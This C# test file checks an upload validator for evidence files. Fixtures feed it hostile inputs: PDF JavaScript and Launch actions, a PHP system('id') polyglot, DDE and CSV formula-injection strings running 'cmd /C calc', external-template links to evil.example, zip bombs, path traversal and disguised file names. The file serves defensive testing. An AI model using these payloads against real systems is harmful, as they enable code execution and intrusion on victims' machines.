using System.Text;
using CsCheck;
using FollowUp.Evidence;
using FollowUp.Recommendations;
using static FollowUp.Tests.Evidence.Files;

namespace FollowUp.Tests.Evidence;

public sealed class FileCheckTests
{
    private static readonly byte[] Zeros = new byte[30 * 1024 * 1024];

    private const string Script = "1 0 <</S/JavaScript/JS(app.alert(1))>>";

    public static TheoryData<string, byte[], EvidenceKind> Good { get; } = new()
    {
        { "report.pdf", Pdf(), EvidenceKind.Pdf },
        { "Report.PDF", Pdf(after: "\r\n"), EvidenceKind.Pdf },
        { "from Word.docx.pdf", Pdf(), EvidenceKind.Pdf },
        { "Report 3.1 (final).pdf", PdfWith("/Filter/FlateDecode", Deflated("BT /F1 12 Tf (about /JavaScript) Tj ET")), EvidenceKind.Pdf },
        { "objects.pdf", PdfWith("/Type/ObjStm/Filter/FlateDecode", Deflated("1 0 <</Type/Font>>")), EvidenceKind.Pdf },
        { "letter.docx", Office(Word), EvidenceKind.Word },
        { "figures.xlsx", Office(Excel), EvidenceKind.Excel },
        { "talk.pptx", Office(PowerPoint, ("ppt/embeddings/Microsoft_Excel_Sheet.xlsx", Office(Excel))), EvidenceKind.PowerPoint },
        { "Rhaglen waith – Ionawr.png", Png, EvidenceKind.Png },
        { "photo.jpg", Jpeg, EvidenceKind.Jpeg },
        { "photo.jpeg", [.. Jpeg, .. "Samsung trailer"u8], EvidenceKind.Jpeg },
        { "figures.csv", Text("\uFEFFmonth,change\r\nMay,-5\r\nJune,+44 20 7946 0000\r\nJuly,- none -\r\n"), EvidenceKind.Csv },
        { "figures.csv", Encoding.Latin1.GetBytes("prix,£5\r\ncafé,£6\r\n"), EvidenceKind.Csv },
        { "notes.txt", Text("Staff said: “better”.\n"), EvidenceKind.Text },
        { "notes.txt", [0xFF, 0xFE, .. Encoding.Unicode.GetBytes("Wide\r\n")], EvidenceKind.Text },
    };

    public static TheoryData<string, byte[], string> Bad { get; } = new()
    {
        // Wrong kinds
        { "report.exe", Text("MZ"), "must be a PDF, Word (docx)" },
        { "report", Pdf(), "must be a PDF, Word (docx)" },
        { "report.doc", [0xD0, 0xCF, 0x11, 0xE0], "Save the file as a Word document (docx)" },
        { "figures.xls", [0xD0, 0xCF, 0x11, 0xE0], "Save the file as an Excel workbook (xlsx)" },
        { "talk.ppt", [0xD0, 0xCF, 0x11, 0xE0], "Save the file as a PowerPoint presentation (pptx)" },
        { "plan.docm", Office(Word), "may contain macros" },
        { "all.zip", Zip([("a.pdf", Pdf())]), "Unpack the file" },
        { "drawing.svg", Text("<svg xmlns='http://www.w3.org/2000/svg'><script>alert(1)</script></svg>"), "PNG or JPEG" },
        { "moving.gif", Text("GIF89a/*...*/=1;alert(1)//;"), "PNG or JPEG" },
        { "page.html", Text("<script>alert(1)</script>"), "must be a PDF" },

        // Content that is not what the name says
        { "report.pdf", Text("Hello"), "it is not a PDF" },
        { "report.pdf", Png, "it is not a PDF" },
        { "report.docx", Pdf(), "it is not a Word document" },
        { "report.docx", Office(Excel), "it is not a Word document" },
        { "report.docx", Zip([("hello.txt", Text("Hello"))]), "it is not a Word document" },
        { "report.docx", [0xD0, 0xCF, 0x11, 0xE0, 0xA1, 0xB1, 0x1A, 0xE1, 0, 0], "protected by a password" },
        { "photo.png", Jpeg, "it is not a PNG image" },
        { "photo.png", Text("GIF89a/*...*/=1;alert(1)//;"), "it is not a PNG image" },
        { "photo.jpg", Png, "it is not a JPEG image" },
        { "notes.txt", Png, "it is not plain text" },
        { "notes.txt", Text("NUL\0"), "it is not plain text" },
        { "figures.csv", Pdf("\u0001"), "it is not text" },
        { "report.pdf", Text("<svg><script>alert(1)</script></svg>"), "it is not a PDF" },

        // Two kinds in one
        { "report.pdf", [.. "/*"u8, .. Pdf()], "it is not a PDF" },
        { "report.pdf", [.. Pdf(), .. Zip([("evil.exe", Text("MZ"))])], "something else in it" },
        { "report.pdf", [.. Pdf(), .. "<script>alert(1)</script>"u8], "something else in it" },
        { "report.pdf", Pdf("<html><script>alert(1)</script>"), "something else in it" },
        { "photo.png", [.. Png, .. Zip([("evil.exe", Text("MZ"))])], "something else in it" },
        { "photo.png", [.. Png, .. "<script>alert(1)</script>"u8], "something else in it" },
        { "photo.jpg", [.. Jpeg, .. Pdf()], "something else in it" },
        { "photo.jpg", [.. Jpeg, .. "<?php system('id'); ?>"u8], "something else in it" },
        { "photo.jpg", [0xFF, 0xD8, 0xFF, 0xE0, (byte)'/', (byte)'*', .. Jpeg], "something else in it" },
        { "report.docx", [.. Office(Word), .. "more"u8], "something else in it" },
        { "report.docx", [.. "GIF89a"u8, .. Office(Word)], "it is not a Word document" },

        // What does something when it is opened
        { "report.pdf", Pdf("3 0 obj\n<</S/JavaScript/JS(app.alert(1))>>\nendobj"), "contains scripts" },
        { "report.pdf", Pdf("3 0 obj\n<</S/J#61vaScript/J#53(app.alert(1))>>\nendobj"), "contains scripts" },
        { "report.pdf", Pdf("3 0 obj\n<</S/Launch/F(cmd.exe)>>\nendobj"), "contains scripts" },
        { "report.pdf", Pdf("3 0 obj\n<</Names<</EmbeddedFiles 4 0 R>>>>\nendobj"), "contains scripts" },
        { "report.pdf", PdfWith("/Type/ObjStm/Filter/FlateDecode", Deflated("1 0 <</S/JavaScript/JS(app.alert(1))>>")), "contains scripts" },
        { "report.pdf", PdfWith("/Type/Obj#53tm/Filter/FlateDecode", Deflated(Script)), "contains scripts" },
        { "report.pdf", PdfWith("/Type/ObjStm/Note(1 0 obj)/Filter/FlateDecode", Deflated(Script)), "contains scripts" },
        { "report.pdf", PdfWith($"/Type/ObjStm{new string(' ', 9_000)}/Filter/FlateDecode", Deflated(Script)), "contains scripts" },
        { "report.pdf", PdfWith("/Type/ObjStm", Text(Script)), "contains scripts" },
        { "report.pdf", PdfWith("/Type/ObjStm/Filter/FlateDecode>>%<<", Deflated(Script)), "contains scripts" },
        { "report.pdf", Pdf($"% stream\n3 0 obj\n<</S/JavaScript/JS(app.alert(1))>>\nendobj\n% endstream"), "contains scripts" },
        { "report.pdf", Pdf($"% >>stream\n3 0 obj\n<</S/JavaScript/JS(app.alert(1))>>\nendobj\n% endstream"), "contains scripts" },
        { "report.pdf", Pdf($"% >>stream\n3 0%\nobj\n<</S/JavaScript/JS(app.alert(1))>>\nendobj\n% endstream"), "contains scripts" },

        // What cannot be looked into
        { "report.pdf", PdfWith("/Type/ObjStm/Filter/ASCIIHexDecode", Text(Convert.ToHexString(Text(Script)) + ">")), "cannot be checked" },
        { "report.pdf", PdfWith("/Type/ObjStm/Filter/ASCIIHexDecode", Text(BitConverter.ToString(Text(Script)).Replace('-', ' ') + ">")), "cannot be checked" },
        { "report.pdf", PdfWith("/Type/ObjStm/Filter[/ASCIIHexDecode/FlateDecode]", Text(Convert.ToHexString(Deflated(Script)) + ">")), "cannot be checked" },
        { "report.pdf", PdfWith("/Type/ObjStm/Filter[/FlateDecode/FlateDecode]", Deflated(Deflated(Script))), "cannot be checked" },
        { "report.pdf", PdfWith("/Type/ObjStm/Filter[/FlateDecode 9 0 R]", Deflated(Deflated(Script))), "cannot be checked" },
        { "report.pdf", PdfWith("/Type/ObjStm/Filter 9 0 R", Text(Script)), "cannot be checked" },
        { "report.pdf", PdfWith("/Type/ObjStm/Filter/FlateDecode", Text("not deflated")), "cannot be checked" },
        { "report.pdf", PdfWith("/Type/ObjStm/Filter/FlateDecode", Deflated(new string(' ', 40_000) + Script)[..40]), "cannot be checked" },
        { "report.pdf", PdfWith("/Type/ObjStm/Filter/FlateDecode", Deflated("1 0 " + new string(' ', 60_000_000) + Script)), "unpacks to more" },
        { "report.pdf", Pdf("3 0 obj\n<</Length 9>>\nstream\n3 0 obj<</S/Launch>>"), "has no end" },
        { "plan.docx", Office("application/vnd.ms-word.document.macroEnabled.main+xml"), "contains macros" },
        { "plan.docx", Office(Word, ("word/vbaProject.bin", Text("macro"))), "contains macros" },
        { "plan.xlsx", Office(Excel, ("xl/macrosheets/sheet1.xml", Text("<x/>"))), "contains macros" },
        { "plan.docx", Office(Word, ("word/embeddings/oleObject1.bin", Text("MZ"))), "contains macros" },
        { "plan.docx", Office(Word, ("word/media/run.exe", Text("MZ"))), "contains macros" },
        { "plan.docx", Office(Word, ("word/embeddings/inner.xlsx", Office(Excel, ("xl/vbaProject.bin", Text("macro"))))), "Another document in the file" },
        { "plan.docx", Office(Word, ("word/_rels/settings.xml.rels", Text("""<Relationships><Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="https://evil.example/t.dotm" TargetMode="External"/></Relationships>"""))), "from somewhere else" },
        { "plan.xlsx", Office(Excel, ("xl/externalLinks/externalLink1.xml", Text("""<externalLink><ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>"""))), "from somewhere else" },
        { "figures.csv", Text("a,b\r\n=cmd|' /C calc'!A0,1"), "run as formulas" },
        { "figures.csv", Text("a\tb\n1\t@SUM(1+1)"), "run as formulas" },
        { "figures.csv", Text("a,b\n1,\"-2+3+cmd|' /C calc'!A0\""), "run as formulas" },
        { "figures.csv", Text("\uFEFF+HYPERLINK(\"https://evil.example\")"), "run as formulas" },
        { "figures.csv", Text("a;\uFF1D1+1"), "run as formulas" },

        // Too much
        { "bomb.docx", Office(Word, [.. Enumerable.Range(0, 8).Select(i => ($"word/media/image{i}.png", Zeros))]), "unpacks to more" },
        { "bomb.docx", Understated(Office(Word, [.. Enumerable.Range(0, 8).Select(i => ($"word/media/image{i}.png", Zeros))])), "" },
        { "many.docx", Office(Word, [.. Enumerable.Range(0, 10_000).Select(i => ($"word/media/image{i}.png", Array.Empty<byte>()))]), "unpacks to more" },
        { "twice.docx", Office(Word, ("main.xml", Text("<other/>"))), "damaged" },
        { "climbs.docx", Office(Word, ("../../evil.xml", Text("<x/>"))), "damaged" },
        { "entities.docx", Zip([("[Content_Types].xml", Text("<!DOCTYPE t [<!ENTITY a \"aaaa\">]><Types>&a;</Types>"))]), "damaged" },
        { "cut.png", Png[..40], "damaged" },
        { "cut.jpg", Jpeg[..20], "damaged" },
        { "cut.pdf", Pdf()[..60], "damaged" },
        { "cut.docx", Office(Word)[..^30], "damaged" },
        { "empty.pdf", [], "The file is empty" },

        // Names
        { "report.exe.pdf", Pdf(), "two endings, one of them .exe" },
        { "report.js.txt", Text("x"), "two endings, one of them .js" },
        { "report.pdf\0.txt", Text("x"), "cannot be seen" },
        { "report\u202Efdp.txt", Text("x"), "cannot be seen" },
        { "report\u200B.txt", Text("x"), "cannot be seen" },
        { "re\r\nport.txt", Text("x"), "cannot be seen" },
        { "\uFFFD.txt", Text("x"), "cannot be seen" },
        { "../../report.pdf", Pdf(), "must not contain" },
        { "C:\\files\\report.pdf", Pdf(), "must not contain" },
        { "report\".pdf", Pdf(), "must not contain" },
        { new string('x', 147) + ".pdf", Pdf(), "150 characters or fewer; it has 151" },
        { ".pdf", Pdf(), "needs a name" },
        { " . .pdf", Pdf(), "needs a name" },
    };

    [Theory]
    [MemberData(nameof(Good), DisableDiscoveryEnumeration = true)]
    public void A_file_that_is_what_its_name_says_is_taken(string name, byte[] content, EvidenceKind kind)
    {
        var outcome = FileCheck.Check(name, content, content.Length);

        Assert.True(outcome.Refusal is null, outcome.Refusal?.Problems[0].Message);
        Assert.Equal(kind, outcome.Value);
    }

    [Theory]
    [MemberData(nameof(Bad), DisableDiscoveryEnumeration = true)]
    public void Anything_else_is_refused_with_a_plain_reason(string name, byte[] content, string reason)
    {
        var problem = Assert.Single(FileCheck.Check(name, content, content.Length).Refusal?.Problems ?? []);

        Assert.Equal("file", problem.Field);
        Assert.Contains(reason, problem.Message, StringComparison.Ordinal);
    }

    [Theory]
    [InlineData(10 * 1024 * 1024, true)]
    [InlineData(10 * 1024 * 1024 + 1, false)]
    public void The_limit_on_the_page_is_the_limit(int bytes, bool taken)
    {
        var text = new byte[bytes];
        Array.Fill(text, (byte)'x');

        Assert.Equal(taken ? null : "The file must be 10 MB or smaller", FileCheck.Check("long.txt", text, bytes).Refusal?.Problems[0].Message);
    }

    [Fact]
    public void Whatever_the_bytes_are_there_is_an_answer()
    {
        var endings = FileKinds.All.SelectMany(k => k.Endings).ToArray();
        var beginnings = new[] { Pdf(), Png, Jpeg, Office(Word), Text("a,b\n") };
        Gen.Select(Gen.Int[0, endings.Length - 1].Select(i => endings[i]), Gen.Int[0, beginnings.Length - 1].Select(i => beginnings[i]), Gen.Byte.Array[0, 200], Gen.Int[0, 400]).Sample(
            (ending, beginning, noise, at) =>
            {
                byte[] content = [.. beginning.Take(at), .. noise, .. beginning.Skip(at + noise.Length)];
                var outcome = FileCheck.Check("file" + ending, content, content.Length);
                return outcome.Refusal is null || outcome.Refusal.Problems is [{ Field: "file", Message.Length: > 0 }];
            },
            iter: 20_000);
    }

    public static TheoryData<string, byte[]> Hostile { get; } = new()
    {
        { "streams.pdf", Pdf(string.Concat(Enumerable.Repeat("stream\nendstream\n", 600_000))) },
        { "names.pdf", Pdf(new string('/', 10_000_000)) },
        { "hashes.pdf", Pdf("/" + string.Concat(Enumerable.Repeat("#4", 3_000_000))) },
        { "packed.pdf", PdfWith("/Type/ObjStm/Filter/FlateDecode", Deflated("1 0 " + new string('/', 40_000_000))) },
        { "dictionaries.pdf", Pdf(string.Concat(Enumerable.Repeat(">>stream\n1 obj\n", 600_000)) + "endstream") },
        { "unreadable.pdf", Pdf(string.Concat(Enumerable.Repeat("/ObjStm stream\n", 600_000)) + "endstream") },
        { "readable.pdf", Pdf(string.Concat(Enumerable.Repeat("/ObjStm stream\n1 0 ", 500_000)) + "endstream") },
        { "signs.csv", Text(string.Concat(Enumerable.Repeat("-,", 5_000_000))) },
        { "sign.csv", Text("-" + new string('x', 10_000_000)) },
        { "quoted signs.csv", Text(string.Concat(Enumerable.Repeat(",\"-\n", 2_500_000))) },
        { "programs.csv", Text("-" + string.Concat(Enumerable.Repeat("a|!", 3_000_000))) },
        { "exclamations.csv", Text("-a|" + new string('!', 10_000_000)) },
        { "parts.docx", Office(Word, ("word/_rels/document.xml.rels", new byte[60_000_000])) },
        { "ends.png", [.. Png, .. Enumerable.Repeat("PK\x05\x06"u8.ToArray(), 2_000_000).SelectMany(b => b)] },
    };

    [Theory]
    [MemberData(nameof(Hostile), DisableDiscoveryEnumeration = true)]
    public void No_file_keeps_the_check_busy(string name, byte[] content)
    {
        var running = System.Diagnostics.Stopwatch.StartNew();
        FileCheck.Check(name, content, content.Length);
        Assert.True(running.Elapsed < TimeSpan.FromSeconds(10), $"{name}: {running.Elapsed}");
    }

    [Fact]
    public void Whatever_the_name_is_there_is_an_answer_and_what_is_taken_can_be_shown() =>
        Gen.String.Sample(name => FileNames.Problem(name) is not null || !name.Any(char.IsControl) && name.IndexOfAny(['/', '\\', '"']) < 0 && name.Length <= FileNames.Longest, iter: 20_000);
}
